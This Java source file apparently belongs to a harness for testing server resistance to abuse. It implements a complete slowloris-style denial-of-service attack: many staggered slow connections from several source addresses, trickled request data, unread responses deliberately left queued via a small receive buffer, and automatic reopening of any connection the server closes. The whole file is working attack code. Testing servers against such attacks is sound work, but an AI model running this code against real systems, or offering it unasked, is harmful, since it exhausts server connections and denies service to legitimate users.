package io.streamlocks.proof.abuse.attack;

import java.io.IOException;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * Many connections that one thread keeps open, each of which sends something at first and a little more each time; one that
 * ends is opened again.
 *
 * @param count how many
 * @param addresses from how many addresses they come
 * @param first what each sends at first
 * @param more what each sends each time after that
 * @param every how long from one time to the next
 * @param reads whether answers are read
 */
record SlowConnections(int count, int addresses, byte[] first, byte[] more, Duration every, boolean reads) {

    /** In so many steps a round is made, so that the connections do not all begin at once. */
    private static final int STEPS = 30;

    /** Small, so that an answer that is not read stays with the server. */
    private static final int RECEIVE_BUFFER = 4096;

    /** Runs until the attack is over. */
    void run(Target target) throws InterruptedException {
        List<Slow> all = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            all.add(new Slow(target, i % addresses));
        }
        for (int step = 0; !target.isOver(); step = (step + 1) % STEPS) {
            for (int i = step; i < count; i += STEPS) {
                all.get(i).goOn();
            }
            TimeUnit.NANOSECONDS.sleep(every.toNanos() / STEPS);
        }
        all.forEach(Slow::close);
    }

    private final class Slow {

        private final Target target;
        private final int address;
        private final ByteBuffer answer = ByteBuffer.allocate(512);
        private SocketChannel channel;
        private ByteBuffer unsent;

        Slow(Target target, int address) {
            this.target = target;
            this.address = address;
        }

        void goOn() {
            try {
                if (channel == null) {
                    open();
                } else if (channel.isConnected() || channel.finishConnect()) {
                    if (!unsent.hasRemaining()) {
                        unsent = ByteBuffer.wrap(more);
                    }
                    send();
                }
            } catch (IOException e) {
                target.tally().add("ended by the server");
                close();
            }
        }

        private void open() throws IOException {
            unsent = ByteBuffer.wrap(first);
            channel = SocketChannel.open();
            channel.configureBlocking(false);
            if (!reads) {
                channel.setOption(StandardSocketOptions.SO_RCVBUF, RECEIVE_BUFFER);
            }
            channel.bind(Target.source(address));
            target.tally().add("opened");
            if (channel.connect(target.address())) {
                send();
            }
        }

        private void send() throws IOException {
            channel.write(unsent);
            if (!reads) {
                return;
            }
            answer.clear();
            int read = channel.read(answer);
            if (read < 0) {
                throw new IOException("ended");
            }
            // "HTTP/1.1 408 ..."
            if (read > 12) {
                target.tally().add(new String(answer.array(), 9, 3, StandardCharsets.US_ASCII));
            }
        }

        void close() {
            try {
                if (channel != null) {
                    channel.close();
                }
            } catch (IOException e) {
                // It is gone, as it should be.
            }
            channel = null;
        }
    }
}
